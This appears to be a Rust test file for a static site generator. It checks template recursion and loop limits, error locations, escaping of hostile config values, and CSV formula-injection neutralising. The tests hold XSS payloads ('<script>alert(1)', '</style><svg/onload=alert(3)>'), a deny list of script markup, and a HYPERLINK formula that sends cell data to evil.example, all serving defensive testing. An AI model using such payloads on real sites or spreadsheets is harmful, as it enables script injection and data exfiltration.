//! Issue #11 (trust): templates. Bad-input cases use the catalogue helpers of `bad_input`.
//!
//! A publisher's template mistake (recursion, an endless loop, a misspelt name) must end in an
//! error at the template's file:line, in `build` and in `check` alike, never in a crash or a
//! hang; config and command-line values must be escaped for every context they reach.

use std::path::Path;
use std::time::Duration;

use crate::bad_input::{build_within, built_site, fails_cleanly, replace_in};
use crate::harness::SiteTest;

/// Breaks the built `bad_input` site, checks that `build` fails cleanly and that `check`
/// reports the same diagnostics (exit code 1); returns the stderr of `build`.
#[track_caller]
fn build_and_check(breakage: impl FnOnce(&SiteTest)) -> String {
    let site = built_site();
    breakage(&site);
    // `check` must fail the same way: `fails_cleanly` compares its exit code and stderr (and
    // `check --format json`) with the build's (`SiteTest::assert_check_agrees`).
    fails_cleanly(&site)
}

/// `build_and_check` with one site override template.
#[track_caller]
fn with_templates(files: &[(&str, &str)]) -> String {
    build_and_check(|s| {
        for (name, text) in files {
            s.write(&format!("templates/{name}"), text);
        }
    })
}

// ---------------------------------------------------------------------------------------------
// 1. Recursion: an error at the template's line, not a stack overflow

#[test]
fn template_that_includes_itself() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n{% if page.title %}\n  {% include \"page.html\" %}\n{% endif %}\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn templates_that_include_each_other() {
    let stderr = with_templates(&[
        (
            "page.html",
            "title: {{ page.title }}\n{% include \"partials/a.html\" %}\n",
        ),
        ("partials/a.html", "A\n{% include \"partials/b.html\" %}\n"),
        ("partials/b.html", "B\n{%- include \"page.html\" -%}\n"),
    ]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn macro_that_calls_itself_forever() {
    let stderr = with_templates(&[
        (
            "rekursion.html",
            "{# A macro without an end. #}\n{% macro tief(n) %}\n  {{ self::tief(n=n + 1) }}\n{% endmacro tief %}\n",
        ),
        (
            "page.html",
            "{% import \"rekursion.html\" as r %}title: {{ page.title }}\n{{ r::tief(n=1) }}\n",
        ),
    ]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn macros_that_call_each_other_through_an_include() {
    // The macro includes a partial that calls the macro again: no include cycle, but endless.
    let stderr = with_templates(&[
        (
            "rekursion.html",
            "{% macro hin() %}{% include \"partials/zurueck.html\" %}{% endmacro hin %}\n",
        ),
        (
            "partials/zurueck.html",
            "{% import \"rekursion.html\" as r %}{{ r::hin() }}",
        ),
        (
            "page.html",
            "{% import \"rekursion.html\" as r %}title: {{ page.title }}\n{{ r::hin() }}\n",
        ),
    ]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn recursive_macro_that_ends_still_works() {
    let site = built_site();
    site.write(
        "templates/baum.html",
        "{% macro stufe(n) %}{{ n }}{% if n < 90 %},{{ self::stufe(n=n + 1) }}{% endif %}{% endmacro stufe %}",
    );
    site.write(
        "templates/page.html",
        "{% import \"baum.html\" as b %}title: {{ page.title }}\n{{ b::stufe(n=1) }}\n",
    );
    site.build();
    let numbers: Vec<String> = (1..=90).map(|n| n.to_string()).collect();
    assert!(
        site.file("public/info/index.html")
            .contains(&numbers.join(",")),
        "{}",
        site.file("public/info/index.html")
    );
}

#[test]
fn tags_nested_too_deeply() {
    let deep = format!(
        "title: {{{{ page.title }}}}\n{}{}",
        "{% if page.title %}\n".repeat(70),
        "{% endif %}\n".repeat(70)
    );
    let stderr = with_templates(&[("page.html", deep.as_str())]);
    insta::assert_snapshot!(stderr);
}

// ---------------------------------------------------------------------------------------------
// 2. Evaluation limits: deterministic counts, an error at the loop's line, not a hang

/// The build must end (with an error) well within this.
const QUICK: Duration = Duration::from_secs(60);

#[test]
fn range_over_a_hundred_million_numbers() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n{% for i in range(end=100000000) %}{{ i }}{% endfor %}\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn nested_loops_over_a_hundred_million_items() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n{% for a in range(end=10000) %}\n  {%- for b in range(end=10000) %}{% endfor %}\n{% endfor %}\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn text_doubled_in_a_loop() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n{% set s = \"x\" %}\n{% for i in range(end=64) %}\n{% set_global s = s ~ s %}\n{% endfor %}{{ s | length }}\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn output_larger_than_the_cap() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n{% for a in range(end=1000) %}{% for b in range(end=1000) %}{{ page.title }}: xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn the_limits_hold_in_a_macro_of_many_loops() {
    // Each call loops; the calls nest ten deep: 10^10 iterations without a budget.
    let site = built_site();
    site.write(
        "templates/schleifen.html",
        "{% macro m(n) %}{% for i in range(end=10) %}{% if n > 0 %}{{ self::m(n=n - 1) }}{% endif %}{% endfor %}{% endmacro m %}",
    );
    site.write(
        "templates/page.html",
        "{% import \"schleifen.html\" as s %}title: {{ page.title }}\n{{ s::m(n=10) }}\n",
    );
    let (site, run, took) = build_within(site, &[], QUICK);
    assert_eq!(run.code(), 1, "{}", run.stderr());
    assert!(took < QUICK);
    let _ = site;
    insta::assert_snapshot!(run.stderr());
}

// ---------------------------------------------------------------------------------------------
// 3. Render errors at the template's file:line, naming the page

#[test]
fn undefined_variable_at_its_line() {
    let stderr = with_templates(&[(
        "page.html",
        "title: {{ page.title }}\n\n<p>{{ page.gibt_es_nicht }}</p>\n",
    )]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn unknown_filter_function_and_test() {
    let stderr = with_templates(&[
        ("page.html", "title: {{ page.title }}\n{{ page.title | gross }}\n"),
        (
            "section.html",
            "template: section.html\ntitle: {{ section.title }}\n{{ heute() }}\n",
        ),
        (
            "index.html",
            "template: index.html\ntitle: {{ section.title }}\n{% if section.title is leer %}x{% endif %}\n",
        ),
    ]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn error_in_an_imported_macro_is_placed_in_the_macro_file() {
    let stderr = with_templates(&[
        (
            "felder.html",
            "{% macro feld(wert) %}\n<dd>{{ wert }}</dd>\n<dd>{{ wert_fehlt }}</dd>\n{% endmacro feld %}\n",
        ),
        (
            "page.html",
            "{% import \"felder.html\" as f %}title: {{ page.title }}\n{{ f::feld(wert=page.title) }}\n",
        ),
    ]);
    insta::assert_snapshot!(stderr);
}

#[test]
fn error_in_a_parent_template_is_placed_there() {
    let stderr = with_templates(&[
        (
            "basis.html",
            "<title>{{ site.title }}</title>\n{% block inhalt %}{% endblock inhalt %}\n<footer>{{ site.title | gross }}</footer>\n",
        ),
        (
            "page.html",
            "{% extends \"basis.html\" %}\n{% block inhalt %}title: {{ page.title }}{% endblock inhalt %}\n",
        ),
    ]);
    insta::assert_snapshot!(stderr);
}

// ---------------------------------------------------------------------------------------------
// 4. Config and command-line values are escaped for their context

/// The `trust_templates_default` site with the repository's default theme.
fn default_theme_site() -> SiteTest {
    let site = SiteTest::new("trust_templates_default");
    let theme = Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default");
    for entry in walkdir::WalkDir::new(&theme) {
        let entry = entry.expect("walk the default theme");
        let rel = entry.path().strip_prefix(&theme).expect("below the theme");
        if entry.file_type().is_file() {
            let bytes = std::fs::read(entry.path()).expect("read a theme file");
            site.write(&format!("themes/default/{}", rel.display()), bytes);
        }
    }
    site
}

/// Nothing in `html` that runs script or ends the print style early.
#[track_caller]
fn assert_inert(what: &str, html: &str) {
    // Escaped text such as `&lt;svg/onload=…` is inert; markup is not.
    for bad in ["<script>", "<svg", "</style><", "<style>x"] {
        assert!(!html.contains(bad), "{what} contains {bad:?}:\n{html}");
    }
    // Every page of the default theme has the print style (base.html), with the base URL in it.
    let start = html
        .find("<style media=\"print\">")
        .unwrap_or_else(|| panic!("{what} has no print style:\n{html}"));
    let rest = &html[start..];
    let end = rest.find("</style>").expect("the print style ends");
    assert!(
        rest[..end].ends_with("::after{content:none!important}"),
        "the print style was broken out of:\n{}",
        &rest[..end]
    );
}

#[test]
fn hostile_config_values_are_escaped_in_every_output() {
    // Title, description and [extra] as a careless or hostile publisher might write them.
    let site = default_theme_site();
    site.build();
    for page in [
        "public/index.html",
        "public/info/index.html",
        "public/404.html",
    ] {
        let html = site.file(page);
        assert_inert(page, &html);
        assert!(
            html.contains("Amt&lt;/title&gt;&lt;script&gt;"),
            "{page}: title"
        );
    }
    for xml in ["public/sitemap.xml", "public/atom.xml"] {
        let text = site.file(xml);
        assert!(
            !text.contains("<script") && !text.contains("<svg"),
            "{xml}:\n{text}"
        );
    }
    let feed = site.file("public/atom.xml");
    assert!(
        feed.contains("<title>Amt&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>"),
        "{feed}"
    );
}

const HOSTILE_URL: &str = "https://example.org/</style><svg/onload=alert(3)>/";

/// A hostile base URL is refused before anything is written: it never reaches a page, raw or
/// escaped (every character a base URL may hold needs no escaping in HTML, CSS or URLs, so the
/// print style's `css_string` has nothing to do for it).
#[track_caller]
fn refused(site: &SiteTest, args: &[&str], code: i32, expected: &str) {
    let mut all = vec!["build"];
    all.extend_from_slice(args);
    let run = site.run(&all);
    assert_eq!(
        (run.code(), run.stderr()),
        (code, expected),
        "a hostile base URL is refused"
    );
    assert!(!site.exists("public"), "a refused build wrote public/");
}

const BASE_URL_HINT: &str = "  = hint: a base URL may only contain letters, digits and - . _ ~ / : [ ] ! $ * + , ; = @ and percent-escapes such as %20\n";

#[test]
fn hostile_base_url_in_the_config_is_refused() {
    let site = default_theme_site();
    replace_in(
        &site,
        "config.toml",
        "base_url = \"https://example.org/amt/\"",
        &format!("base_url = \"{HOSTILE_URL}\""),
    );
    let expected = format!(
        "config.toml:3:12: error: base_url `{HOSTILE_URL}` contains `<`\n  |\n3 | base_url = \"{HOSTILE_URL}\"\n  |            ^\n{BASE_URL_HINT}error: build failed with 1 error; nothing was written\n"
    );
    refused(&site, &[], 1, &expected);
}

#[test]
fn hostile_base_url_on_the_command_line_is_refused() {
    let site = default_theme_site();
    let expected =
        format!("error: invalid value for --base-url: base_url `{HOSTILE_URL}` contains `<`\n{BASE_URL_HINT}");
    refused(&site, &["--base-url", HOSTILE_URL], 2, &expected);
}

// ---------------------------------------------------------------------------------------------
// 5. CSV formula injection

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let site = SiteTest::new("trust_templates_csv");
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    for t in ["projekte.csv", "projekte.json"] {
        let text = std::fs::read_to_string(repo.join(t)).expect("read the open-data template");
        site.write(&format!("templates/{t}"), text);
    }
    site.build();
    insta::assert_snapshot!(site.file("public/projekte/projekte.csv"));
    // JSON has no formulas: the values stay as written.
    let json = site.file("public/projekte/projekte.json");
    assert!(
        json.contains(r#""antragsteller": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")""#),
        "{json}"
    );
}
